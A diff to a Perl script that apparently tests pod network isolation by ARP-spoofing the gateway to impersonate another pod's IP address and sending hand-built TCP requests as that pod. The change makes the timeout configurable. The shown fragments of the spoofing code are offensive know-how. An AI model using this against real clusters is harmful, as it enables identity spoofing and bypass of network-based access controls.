@@ -1,11 +1,11 @@
 # Runs inside a pod: calls http://TARGET:PORT/PATH as if it were the pod with the address VICTIM, and prints the answer.
 # What a process with CAP_NET_RAW and nothing else can do: it tells the gateway by ARP that VICTIM lives at its own hardware
-# address, and speaks TCP by hand. Exit code 0: answered; 1: no answer within 10 s; 2: no raw socket.
-# Plain Perl, for that is what any Debian image has. Usage: steal-address.pl OWN VICTIM TARGET PORT PATH
+# address, and speaks TCP by hand. Exit code 0: answered; 1: no answer within SECONDS; 2: no raw socket.
+# Plain Perl, for that is what any Debian image has. Usage: steal-address.pl OWN VICTIM TARGET PORT PATH SECONDS
 use strict;
 use warnings;
 
-my ($own, $victim, $target, $port, $path) = @ARGV;
+my ($own, $victim, $target, $port, $path, $seconds) = @ARGV;
 my ($AF_PACKET, $SOCK_RAW, $ALL) = (17, 3, 3);
 my ($SYN, $PSH, $ACK, $FIN) = (0x02, 0x08, 0x10, 0x01);
 
@@ -51,7 +51,7 @@ for (my $end = time + 5; !defined $gatewayMac && time < $end;) {
 }
 die "the gateway $gateway does not answer" unless defined $gatewayMac;
 
-my $deadline = time + 10;
+my $deadline = time + $seconds;
 while (time < $deadline) {
   my ($from, $seq, $next, $answer) = (20_000 + int rand 20_000, int rand 2**31, undef, '');
   ask($victim, $gatewayMac);
